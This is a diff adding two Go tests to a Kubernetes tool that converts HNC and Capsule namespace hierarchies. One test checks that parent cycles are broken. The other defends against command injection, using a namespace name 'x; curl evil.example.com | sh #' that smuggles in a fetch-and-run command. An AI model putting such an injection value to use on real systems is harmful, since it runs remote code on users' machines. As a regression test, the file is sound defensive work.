@@ -141,3 +141,51 @@ func TestKyvernoNeverSelectsMore(t *testing.T) {
 		})
 	}
 }
+
+// A namespace that would become its own ancestor has no parent, so the policy spaces form a hierarchy.
+func TestHNCWithCycle(t *testing.T) {
+	t.Parallel()
+	var objects []*unstructured.Unstructured
+	for name, parent := range map[string]string{"a": "b", "b": "c", "c": "a", "d": "d"} {
+		objects = append(objects, &unstructured.Unstructured{Object: map[string]any{
+			"apiVersion": "hnc.x-k8s.io/v1alpha2", "kind": "HierarchyConfiguration",
+			"metadata": map[string]any{"name": "hierarchy", "namespace": name}, "spec": map[string]any{"parent": parent},
+		}})
+	}
+	d := fromHNC(t.Context(), objects)
+	require.Contains(t, d.lost, "namespace/d: its parent d is below it")
+	parents := map[string]string{}
+	for _, doc := range d.documents {
+		parents[at[string](doc.object, "metadata", "name")] = at[string](doc.object, "spec", "parent")
+	}
+	for name := range parents {
+		above := name
+		for range parents {
+			above = parents[above]
+		}
+		require.Empty(t, above, "%v", parents)
+	}
+}
+
+// Names of namespaces get into commands that users copy from comments.
+func TestNoCommandsFromNames(t *testing.T) {
+	t.Parallel()
+	evil := "x; curl evil.example.com | sh #"
+	d := fromHNC(t.Context(), []*unstructured.Unstructured{
+		{Object: map[string]any{
+			"apiVersion": "hnc.x-k8s.io/v1alpha2", "kind": "SubnamespaceAnchor",
+			"metadata": map[string]any{"name": evil, "namespace": "good"},
+		}},
+		{Object: map[string]any{
+			"apiVersion": "hnc.x-k8s.io/v1alpha2", "kind": "HierarchyConfiguration",
+			"metadata": map[string]any{"name": "hierarchy", "namespace": "child"}, "spec": map[string]any{"parent": "good"},
+		}},
+	})
+	require.NotContains(t, printed(t, d), "curl")
+	d = fromCapsule(t.Context(), []*unstructured.Unstructured{{Object: map[string]any{
+		"apiVersion": "capsule.clastix.io/v1beta2", "kind": "Tenant", "metadata": map[string]any{"name": "good"},
+		"status": map[string]any{"namespaces": []any{evil, "fine"}},
+	}}})
+	require.NotContains(t, printed(t, d), "curl")
+	require.Contains(t, printed(t, d), "kubectl label namespace fine ")
+}
